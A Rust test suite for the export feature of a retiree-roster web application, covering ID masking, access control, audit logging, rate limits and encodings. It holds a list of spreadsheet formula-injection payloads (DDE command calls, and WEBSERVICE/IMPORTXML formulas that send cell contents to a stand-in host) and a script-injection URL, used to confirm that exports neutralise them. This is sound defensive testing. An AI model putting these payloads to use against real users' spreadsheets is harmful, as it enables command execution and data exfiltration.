//! Lists are taken out as files: of the same people as the page, with their numbers hidden, under
//! an act that says for whom and why.

use std::io::Read;

use axum::body::Body;
use axum::http::{HeaderMap, Request, StatusCode, header};
use http_body_util::BodyExt;
use jiff::civil::{Date, date};
use kernel::{Actor, q};
use rules::facts::Mark;
use songhe::exchange::export::{A_DAY, FULL_A_DAY};
use songhe::exchange::export_lists::List;
use songhe::registry::NewPerson;
use songhe::visits::{self, Caller, Report};
use tower::ServiceExt;

use crate::samples::{CANARIES, Samples};
use crate::world::{World, new_person};

const BORN: Date = date(1950, 3, 4);

pub struct File {
    pub status: StatusCode,
    headers: HeaderMap,
    pub bytes: Vec<u8>,
}

impl File {
    pub fn text(&self) -> String {
        String::from_utf8_lossy(&self.bytes).into_owned()
    }

    pub fn header(&self, name: &str) -> &str {
        self.headers.get(name).map_or("", |value| value.to_str().unwrap())
    }

    /// The rows as the reader of the house reads them: titles, then cells.
    pub fn rows(&self) -> Vec<Vec<String>> {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("file");
        std::fs::write(&path, &self.bytes).unwrap();
        let mut book = sheets::open(&path, "file").unwrap();
        let sheet = book.sheets()[0].name.clone();
        let mut rows: Vec<Vec<String>> = Vec::new();
        book.rows::<sheets::SheetError>(&sheet, &mut |row| {
            let width = row.cells.last().map_or(0, |cell| cell.column + 1);
            rows.push((0..width).map(|column| row.text(column).to_owned()).collect());
            Ok(sheets::Flow::Go)
        })
        .unwrap();
        // The title and the watermark of a workbook stand above, those of a CSV file below.
        rows.retain(|row| row.len() > 1);
        rows
    }
}

/// Sends the form of an export as somebody.
pub async fn export(world: &World, actor: &Actor, fields: &[(&str, &str)]) -> File {
    let plain = |name: &str| !fields.iter().any(|(given, _)| *given == name);
    let mut all: Vec<(String, String)> = vec![(frame::CSRF_FIELD.into(), world.csrf(actor))];
    for (name, value) in
        [("list", "people"), ("format", "csv"), ("purpose", "核对名册"), ("recipient", "本站")]
    {
        if plain(name) {
            all.push((name.to_owned(), value.to_owned()));
        }
    }
    all.extend(fields.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())));
    let escape = |text: &str| songhe::web::page::encoded(text);
    let body: Vec<String> =
        all.iter().map(|(name, value)| format!("{name}={}", escape(value))).collect();
    let request =
        Request::post("/exports").header(header::CONTENT_TYPE, "application/x-www-form-urlencoded");
    send(world, actor, request.body(Body::from(body.join("&"))).unwrap()).await
}

pub async fn send(world: &World, actor: &Actor, mut request: Request<Body>) -> File {
    let cookie = format!("songhe=story-{}", actor.account);
    request.headers_mut().insert(header::COOKIE, cookie.parse().unwrap());
    let response = world.router.clone().oneshot(request).await.unwrap();
    let (parts, body) = response.into_parts();
    let bytes = body.collect().await.unwrap().to_bytes().to_vec();
    File { status: parts.status, headers: parts.headers, bytes }
}

async fn n(world: &World, query: kernel::Query) -> i64 {
    world.db().row(query).await.unwrap().unwrap().get(0).unwrap()
}

#[tokio::test]
async fn the_file_holds_whom_the_page_shows() {
    for world in World::each().await {
        let office = world.clerk("office_clerk", "990101").await;
        let away = NewPerson {
            away: "abroad".to_owned(),
            marks: vec![Mark::Alone, Mark::Disabled],
            ..new_person("远方人", date(1940, 1, 1))
        };
        world.enter(&office, &away, "990101001001", date(2026, 5, 1)).await;
        let agency = NewPerson { management: "2".to_owned(), ..new_person("机构管", BORN) };
        world.enter(&office, &agency, "990101002001", date(2026, 5, 1)).await;
        for (at, station) in ["990101001001", "990101001002", "990101002001"].iter().enumerate() {
            for day in 1..=3 {
                let name = ["青山人", "松涛人", "绿水人"][at];
                world.person(&office, name, date(1960, 2, day), station).await;
            }
        }
        let conditions = [
            "",
            "org=990101001",
            "org=990101002001",
            "org=990102",
            "status=all",
            "status=dead",
            "management=2",
            "away=elsewhere",
            "away=here",
            "mark=alone",
            "mark=ill",
            "age=80",
            "org=990101001&away=here&age=60",
        ];
        for asked in conditions {
            let page = world.get(&office, &format!("/api/v1/people?limit=200&{asked}")).await;
            let page: serde_json::Value = serde_json::from_str(&page.body).unwrap();
            let shown: Vec<(String, String)> = page["items"]
                .as_array()
                .unwrap()
                .iter()
                .map(|one| (one["name"].to_string(), one["id_number_masked"].to_string()))
                .map(|(name, number)| (name.replace('"', ""), number.replace('"', "")))
                .collect();
            let mut fields = vec![("columns", "name"), ("columns", "id_number")];
            fields.extend(asked.split('&').filter_map(|pair| pair.split_once('=')));
            let file = export(&world, &office, &fields).await;
            assert_eq!(file.status, StatusCode::OK, "{asked}: {}", file.text());
            let rows = file.rows();
            assert_eq!(rows[0], ["姓名", "身份证号"], "{asked}");
            let taken: Vec<(String, String)> =
                rows[1..].iter().map(|row| (row[0].clone(), row[1].clone())).collect();
            assert_eq!(taken, shown, "{asked}");
            assert_eq!(file.header("x-songhe-rows"), shown.len().to_string());
        }
        let marks = [("columns", "name"), ("columns", "marks"), ("mark", "alone")];
        let rows = export(&world, &office, &marks).await.rows();
        assert_eq!(rows[1], ["远方人", "鳏寡孤独、伤残"]);
    }
}

#[tokio::test]
async fn every_mark_is_taken_along() {
    for world in World::each().await {
        let clerk = world.clerk("coordinator", "990101001001").await;
        for mark in Mark::ALL {
            let new = NewPerson { marks: vec![*mark], ..new_person("标记人", BORN) };
            world.enter(&clerk, &new, "990101001001", world.app.today()).await;
        }
        let fields = [("columns", "name"), ("columns", "marks")];
        let mut told: Vec<String> = export(&world, &clerk, &fields).await.rows()[1..]
            .iter()
            .map(|r| r[1].clone())
            .collect();
        let mut expected: Vec<&str> = Mark::ALL.iter().map(|mark| mark.name()).collect();
        told.sort();
        expected.sort_unstable();
        assert_eq!(told, expected);
    }
}

#[tokio::test]
async fn numbers_are_hidden_in_the_style_that_was_chosen() {
    for world in World::each().await {
        let office = world.clerk("office_clerk", "990101").await;
        let clerk = world.clerk("coordinator", "990101001001").await;
        let new = NewPerson {
            phone2: "0199-5550001".to_owned(),
            insurance_no: "3301998877".to_owned(),
            ..new_person("王秀兰", BORN)
        };
        let whole = new.id_number.clone();
        world.enter(&office, &new, "990101001001", world.app.today()).await;
        let star = |text: &str, from: usize, to: usize| {
            text.chars()
                .enumerate()
                .map(|(at, c)| if (from..to).contains(&at) { '*' } else { c })
                .collect::<String>()
        };
        let table = [
            ("first3_last4", star(&whole, 3, 14), "194****0001", "1950-03-04"),
            ("birth8", star(&whole, 6, 14), "194****0001", ""),
            ("middle6", star(&whole, 6, 12), "19******001", ""),
            ("last4", star(&whole, 14, 18), "1940000****", "1950-03-04"),
            ("full", star(&whole, 0, 18), "***********", "1950-03-04"),
            ("none", whole.clone(), "19400000001", "1950-03-04"),
        ];
        for (style, number, phone, born) in table {
            let fields = [
                ("mask", style),
                ("reason", "换发社保卡"),
                ("columns", "name"),
                ("columns", "id_number"),
                ("columns", "phone"),
                ("columns", "born_on"),
                ("columns", "station"),
                ("columns", "insurance_no"),
            ];
            for format in ["csv", "xlsx", "csv-gb18030"] {
                let fields = [&fields[..], &[("format", format)]].concat();
                let file = export(&world, &office, &fields).await;
                assert_eq!(file.status, StatusCode::OK, "{style}: {}", file.text());
                // In the order in which the columns were sent.
                let row = &file.rows()[1];
                let expected = ["王秀兰", &number, phone, born];
                assert_eq!(row[..4], expected, "{style} {format}");
                assert_eq!(row[5] == "3301998877", style == "none");
            }
        }
        // Whole numbers are for those who may, and only for a reason.
        let full = [("mask", "none"), ("reason", "换发社保卡")];
        assert_eq!(export(&world, &clerk, &full).await.status, StatusCode::FORBIDDEN);
        let form = world.get(&clerk, "/exports/new?list=people").await;
        assert!(!form.body.contains("value=\"none\""), "it is not even offered");
        for reason in ["", "换", "查33010119500304123的人"] {
            let file = export(&world, &office, &[("mask", "none"), ("reason", reason)]).await;
            assert_eq!(file.status, StatusCode::UNPROCESSABLE_ENTITY, "{reason}");
        }
        assert_eq!(n(&world, q!("SELECT COUNT(*) FROM exports WHERE mask = 'none'")).await, 3);
        let deeds = q!("SELECT COUNT(*) FROM audit WHERE deed = 'people.export_full'");
        assert_eq!(n(&world, deeds).await, 3);
    }
}

/// What a spreadsheet would take for a formula, a link or a command.
pub const PAYLOADS: [&str; 40] = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"http://example.test\",\"点我\")",
    "=IMPORTXML(CONCAT(\"http://example.test/\",A1),\"//a\")",
    "=WEBSERVICE(\"http://example.test\")",
    "=DDE(\"cmd\",\"/C calc\",\"x\")",
    "=SUM(A1:A9)",
    "=A1",
    "=-1",
    "==1",
    "+1+1",
    "+cmd|'/C calc'!A0",
    "+A1",
    "+86 1",
    "++1",
    "-1+1",
    "-cmd|'/C calc'!A0",
    "-A1",
    "--1",
    "-2+3+cmd|'/C calc'!D2",
    "@SUM(1+1)",
    "@A1",
    "@@1",
    "@cmd",
    "=\"a\"&\"b\"",
    "='C:\\x'!A1",
    "=1;=2",
    "=1,=2",
    "\"=1+1\"",
    "'=1+1",
    "''=1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    ";=1+1",
    ",=1+1",
    "%0A=1+1",
    "<b>=1</b>",
    "{=1+1}",
];

const SIGNS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

#[tokio::test]
async fn nothing_in_a_file_is_a_formula() {
    for world in World::each().await {
        let clerk = world.clerk("coordinator", "990101001001").await;
        for payload in PAYLOADS {
            let new = NewPerson {
                enterprise_name: payload.to_owned(),
                address: payload.to_owned(),
                ..new_person("王秀兰", BORN)
            };
            world.enter(&clerk, &new, "990101001001", world.app.today()).await;
        }
        let columns = [("columns", "name"), ("columns", "enterprise_name"), ("columns", "address")];
        for format in ["csv", "csv-gb18030", "xlsx"] {
            let fields = [&columns[..], &[("format", format)]].concat();
            let file = export(&world, &clerk, &fields).await;
            let rows = file.rows();
            // In a CSV file an apostrophe stands before a sign; in a workbook only before what
            // reading would take off.
            let is_guarded = |rest: &str| {
                let shelled = rest.starts_with("=\"") && rest.ends_with('"');
                rest.starts_with('\'') || shelled || format != "xlsx" && rest.starts_with(SIGNS)
            };
            let marked = |text: &str| {
                let bare = text.strip_prefix('\'').filter(|rest| is_guarded(rest));
                bare.unwrap_or(text).to_owned()
            };
            let mut taken: Vec<String> = rows[1..].iter().map(|row| marked(&row[1])).collect();
            taken.sort_unstable();
            let mut expected: Vec<String> = PAYLOADS.iter().map(|&text| text.into()).collect();
            expected.sort_unstable();
            assert_eq!(taken, expected, "{format}: what was typed comes back as it was");
            if format == "xlsx" {
                let mut zip = zip::ZipArchive::new(std::io::Cursor::new(&file.bytes)).unwrap();
                for at in 0..zip.len() {
                    let mut part = String::new();
                    zip.by_index(at).unwrap().read_to_string(&mut part).unwrap();
                    assert!(!part.contains("<f>") && !part.contains("<hyperlink"), "{at}");
                }
            } else if format == "csv" {
                let text = file.text();
                let mut reader = csv::ReaderBuilder::new();
                let mut reader = reader.flexible(true).from_reader(text.as_bytes());
                for record in reader.records() {
                    for cell in record.unwrap().iter() {
                        assert!(!cell.starts_with(SIGNS), "{cell}");
                    }
                }
            }
        }
    }
}

#[tokio::test]
async fn an_outsider_takes_nothing_of_others() {
    for world in World::each().await {
        Samples::make(&world).await;
        let own = world.clerk("coordinator", "990101001001").await;
        for list in ["people", "visits", "duties"] {
            let file = export(&world, &own, &[("list", list), ("state", "settled")]).await;
            assert!(file.text().contains(CANARIES[0]), "{list}: {}", file.text());
        }
        let id = n(&world, q!("SELECT MIN(id) FROM exports")).await;
        for (post, place) in [
            ("coordinator", "990101001002"),
            ("coordinator", "990101002001"),
            ("street_clerk", "990101002"),
            ("office_clerk", "990102"),
            ("office_lead", "990102"),
            ("agency_clerk", "990102"),
        ] {
            let outsider = world.clerk(post, place).await;
            // Whoever is asked to take somebody in sees the move.
            let is_asked = place == "990101001002";
            let lists = List::ALL.iter().filter(|list| !is_asked || **list != List::Moves);
            for list in lists.map(|list| list.code()) {
                for format in ["csv", "csv-gb18030"] {
                    for org in ["", "990101001001", "9901"] {
                        let fields = [
                            ("list", list),
                            ("format", format),
                            ("org", org),
                            ("status", "all"),
                            ("from", "2020-01-01"),
                        ];
                        let file = export(&world, &outsider, &fields).await;
                        // Enough for today, or not seen by the post at all.
                        if matches!(file.status, StatusCode::CONFLICT | StatusCode::FORBIDDEN) {
                            continue;
                        }
                        assert_eq!(file.status, StatusCode::OK, "{}", file.text());
                        assert_eq!(file.header("x-songhe-rows"), "0", "{post} {place} {list}");
                        assert!(!file.text().contains(CANARIES[0]));
                    }
                }
            }
            for path in [format!("/exports/{id}"), format!("/api/v1/exports/{id}")] {
                let seen = world.get(&outsider, &path).await;
                assert_eq!(seen.status, StatusCode::NOT_FOUND, "{path}");
                let nobody = world.get(&outsider, &path.replace(&id.to_string(), "1")).await;
                assert_eq!(nobody.status, StatusCode::NOT_FOUND);
            }
        }
        let approver = world.clerk("approver", "990101").await;
        assert_eq!(export(&world, &approver, &[]).await.status, StatusCode::FORBIDDEN);
        let lead = world.clerk("office_lead", "990101").await;
        let page = world.get(&lead, "/exports").await;
        assert!(page.body.contains("核对名册") && !page.body.contains(CANARIES[0]));
        let one = world.get(&lead, &format!("/exports/{id}")).await;
        assert!(one.body.contains("本站") && !one.body.contains(CANARIES[0]), "{}", one.body);
    }
}

#[tokio::test]
async fn a_request_sent_twice_gives_one_file_and_one_trace() {
    for world in World::each().await {
        let clerk = world.clerk("coordinator", "990101001001").await;
        world.person(&clerk, "孟浩然", BORN, "990101001001").await;
        let fields =
            [("idempotency_key", "take-1"), ("purpose", "交换名册"), ("org", "990101001001")];
        let first = export(&world, &clerk, &fields).await;
        assert_eq!(first.status, StatusCode::OK);
        assert!(first.header("content-disposition").starts_with("attachment; filename=\"export-"));
        assert_eq!(first.header("x-content-type-options"), "nosniff");
        assert_eq!(first.header("cache-control"), "no-store");
        let again = export(&world, &clerk, &fields).await;
        assert_eq!(again.status, StatusCode::SEE_OTHER, "it is not given twice");
        let id = n(&world, q!("SELECT id FROM exports")).await;
        assert_eq!(again.header("location"), format!("/exports/{id}"));
        assert_eq!(n(&world, q!("SELECT COUNT(*) FROM exports")).await, 1);
        let subject = format!("export/{id}");
        let row = q!("SELECT deed, detail, who FROM audit WHERE subject = $1", subject);
        let rows = world.db().rows(row).await.unwrap();
        assert_eq!(rows.len(), 1, "one audit row");
        let detail: String = rows[0].get(1).unwrap();
        assert_eq!(rows[0].get::<String>(0).unwrap(), "people.export");
        for word in ["people", "org=990101001001", "1行", "交换名册", "本站", "前三位"] {
            assert!(detail.contains(word), "{word}: {detail}");
        }
        assert!(detail.contains(first.header("x-songhe-sha256")) && !detail.contains("孟浩然"));
        let sum = songhe::cli::handover::files::checksum(first.bytes.as_slice()).unwrap();
        assert_eq!(sum, first.header("x-songhe-sha256"), "the checksum is of what was given");

        let body = r#"{"list": "people", "format": "csv", "purpose": "对账", "recipient": "本站"}"#;
        let call = |body: &str| {
            Request::post("/api/v1/exports")
                .header(header::CONTENT_TYPE, "application/json")
                .header("idempotency-key", "take-2")
                .body(Body::from(body.to_owned()))
                .unwrap()
        };
        let first = send(&world, &clerk, call(body)).await;
        assert!(first.text().contains("孟浩然"), "{}", first.text());
        let again = send(&world, &clerk, call(body)).await;
        assert_eq!(again.status, StatusCode::OK);
        let told: serde_json::Value = serde_json::from_slice(&again.bytes).unwrap();
        assert_eq!((&told["n_rows"], &told["purpose"]), (&1.into(), &"对账".into()));
        assert_eq!(n(&world, q!("SELECT COUNT(*) FROM exports")).await, 2);
        let list = world.get(&clerk, "/api/v1/exports?limit=1").await;
        let list: serde_json::Value = serde_json::from_str(&list.body).unwrap();
        assert_eq!(list["items"][0]["id"], told["id"]);
        assert_eq!(list["after"], told["id"], "and there is more");
    }
}

#[tokio::test]
async fn what_is_missing_is_told_and_what_was_typed_stays() {
    for world in World::each().await {
        let clerk = world.clerk("coordinator", "990101001001").await;
        for (field, value, sentence) in [
            ("purpose", "", "请填写用途"),
            ("recipient", "甲", "请填写接收方"),
            ("purpose", "给13800000000", "不要写证件号码或电话"),
            ("format", "pdf", "请选择文件格式"),
            ("mask", "half", "请选择号码怎样显示"),
            ("columns", "password", "有一列不认识"),
        ] {
            let typed = [(field, value), ("recipient", "区社保中心"), ("management", "2")];
            let keep = if field == "recipient" { &typed[..1] } else { &typed[..] };
            let answer = export(&world, &clerk, keep).await;
            assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{field} {value}");
            let text = answer.text();
            assert!(text.contains(sentence), "{field} {value}: {text}");
            if field != "recipient" {
                assert!(text.contains("区社保中心") && text.contains("社保机构管理"));
            }
        }
        assert_eq!(export(&world, &clerk, &[("list", "persons")]).await.status, 422);
        assert_eq!(n(&world, q!("SELECT COUNT(*) FROM exports")).await, 0);
        for list in List::ALL.iter().filter(|list| clerk.can(list.deed())) {
            let (page, list) = (list.page(), list.code());
            let page = if list == "cards" { "/cards?org=990101001001" } else { page };
            let seen = world.get(&clerk, page).await;
            let link = format!("/exports/new?list={list}");
            assert!(seen.body.contains(&link), "{page} leads to its export");
            let form = world.get(&clerk, &link).await;
            assert_eq!(form.status, StatusCode::OK);
        }
        let injected = "/exports/new?list=people&org=%22%3E%3Cscript%3E&status=dead";
        let form = world.get(&clerk, injected).await;
        assert!(form.body.contains("已去世") && !form.body.contains("\"><script>"));
    }
}

#[tokio::test]
async fn there_is_an_end_to_a_days_exports() {
    for world in World::each().await {
        let office = world.clerk("office_clerk", "990101").await;
        let full = [("mask", "none"), ("reason", "换发社保卡")];
        for _ in 0..FULL_A_DAY {
            assert_eq!(export(&world, &office, &full).await.status, StatusCode::OK);
        }
        let refused = export(&world, &office, &full).await;
        assert_eq!(refused.status, StatusCode::CONFLICT);
        assert!(refused.text().contains("到了上限"));
        for _ in FULL_A_DAY..A_DAY {
            assert_eq!(export(&world, &office, &[]).await.status, StatusCode::OK);
        }
        assert_eq!(export(&world, &office, &[]).await.status, StatusCode::CONFLICT);
        let other = world.clerk("office_lead", "990101").await;
        assert_eq!(export(&world, &other, &[]).await.status, StatusCode::OK, "others still may");
        let tomorrow = world.on_day(date(2026, 5, 7));
        let office = tomorrow.actor(office.account).await;
        assert_eq!(export(&tomorrow, &office, &[]).await.status, StatusCode::OK);
    }
}

#[tokio::test]
async fn every_character_of_gb18030_is_written() {
    for world in World::each().await {
        let clerk = world.clerk("coordinator", "990101001001").await;
        let names = ["阿卜杜拉·买买提", "𠮷田翠", "㐂乐", "王䶮", "龘靐", "𫍯"];
        for name in names {
            world.person(&clerk, name, BORN, "990101001001").await;
        }
        let fields = [("format", "csv-gb18030"), ("columns", "name"), ("columns", "sex")];
        let file = export(&world, &clerk, &fields).await;
        assert!(String::from_utf8(file.bytes.clone()).is_err(), "it is not UTF-8");
        let rows = file.rows();
        let mut taken: Vec<&str> = rows[1..].iter().map(|row| row[0].as_str()).collect();
        let mut expected = names.to_vec();
        taken.sort_unstable();
        expected.sort_unstable();
        assert_eq!(taken, expected);
        assert_eq!(file.header("content-type"), "text/csv; charset=gb18030");
        let utf8 = export(&world, &clerk, &[("columns", "name"), ("columns", "sex")]).await;
        assert!(utf8.bytes.starts_with("\u{feff}姓名".as_bytes()));
    }
}

#[tokio::test]
async fn a_long_list_is_taken_page_by_page() {
    for world in World::each().await {
        let clerk = world.clerk("coordinator", "990101001001").await;
        let mut people = Vec::new();
        for n in 0..520 {
            let born = date(1950, 1, 1).saturating_add(jiff::Span::new().days(n));
            people.push(world.person(&clerk, "王秀兰", born, "990101001001").await);
        }
        for person in &people[..10] {
            let report = Report::ordinary(world.app.today(), "协理员");
            visits::record(&world.app, &clerk, *person, &report, Caller::Page).await.unwrap();
        }
        let rows = export(&world, &clerk, &[("format", "xlsx")]).await.rows();
        assert_eq!(rows.len(), 521);
        let mut numbers: Vec<&String> = rows[1..].iter().map(|row| &row[2]).collect();
        numbers.sort();
        numbers.dedup();
        assert_eq!(numbers.len(), 520, "nobody twice");
        let rows = export(&world, &clerk, &[("list", "visits")]).await.rows();
        assert_eq!(rows.len(), 11);
        assert_eq!(rows[1][..3], ["2026-05-06", "王秀兰", "本人"]);
        let n_open = n(&world, q!("SELECT COUNT(*) FROM duties WHERE state = 'open'")).await;
        let file = export(&world, &clerk, &[("list", "duties")]).await;
        assert_eq!(file.header("x-songhe-rows"), n_open.to_string());
        assert_eq!(file.rows().len() as i64, n_open + 1);
        assert!(n_open > 500, "{n_open}");
    }
}

/// Every column of the roster.
pub const EVERY_COLUMN: &[&str] = &[
    "name",
    "sex",
    "ethnic",
    "born_on",
    "archive_born_on",
    "id_kind",
    "id_number",
    "insurance_no",
    "political",
    "education",
    "marital",
    "enterprise_name",
    "retired_on",
    "retirement_kind",
    "pension",
    "pension_from",
    "marks",
    "hukou_address",
    "address",
    "phone2",
    "phone",
    "away",
    "away_place",
    "station",
    "taken_in_on",
    "management",
    "status",
    "last_contact_on",
    "died_on",
    "left_on",
    "evidence_on",
];

/// A retiree of whom everything is known that a roster can say.
pub fn well_known() -> NewPerson {
    NewPerson {
        archive_born_on: Some(date(1951, 3, 4)),
        ethnic: "05".to_owned(),
        political: "01".to_owned(),
        education: "31".to_owned(),
        marital: "2".to_owned(),
        phone2: "0199-5550001".to_owned(),
        hukou_address: "示范市青山路1号".to_owned(),
        address: "=青山路2号".to_owned(),
        away: "other_province".to_owned(),
        away_place: "外省某市".to_owned(),
        enterprise_name: "示范机械厂".to_owned(),
        retirement_kind: "2".to_owned(),
        retired_on: Some(date(2010, 3, 31)),
        pension_fen: Some(325_650),
        pension_from: Some(date(2010, 4, 1)),
        insurance_no: "3301998877".to_owned(),
        management: "2".to_owned(),
        marks: vec![Mark::Alone, Mark::Model],
        ..new_person("阿卜杜拉·买买提", BORN)
    }
}

#[tokio::test]
async fn an_exported_roster_is_imported_again_without_a_difference() {
    for world in World::each().await {
        let office = world.clerk("office_clerk", "990101").await;
        world.enter(&office, &well_known(), "990101001001", date(2026, 5, 1)).await;
        world.person(&office, "王秀兰", BORN, "990101001002").await;
        let passport = NewPerson {
            id_kind: "passport".to_owned(),
            id_number: "ZZ0000012".to_owned(),
            born_on: Some(BORN),
            sex: "1".to_owned(),
            ..NewPerson::default()
        };
        let passport = NewPerson { name: "李远".to_owned(), ..passport };
        world.enter(&office, &passport, "990101002001", date(2026, 5, 1)).await;
        let mut fields = vec![("mask", "none"), ("reason", "迁移核对")];
        fields.extend(EVERY_COLUMN.iter().map(|key| ("columns", *key)));
        for format in ["xlsx", "csv", "csv-gb18030"] {
            let fields = [&fields[..], &[("format", format)]].concat();
            let file = export(&world, &office, &fields).await;
            assert_eq!(file.status, StatusCode::OK, "{}", file.text());
            let import = crate::importing::checked(&world, &office, "roster", &file.bytes).await;
            let counts = &import.counts;
            let told = (counts.rows, counts.new, counts.updated, counts.unchanged, counts.faulty);
            assert_eq!(told, (3, 0, 0, 3, 0), "{format}: {counts:?}");
        }
    }
}
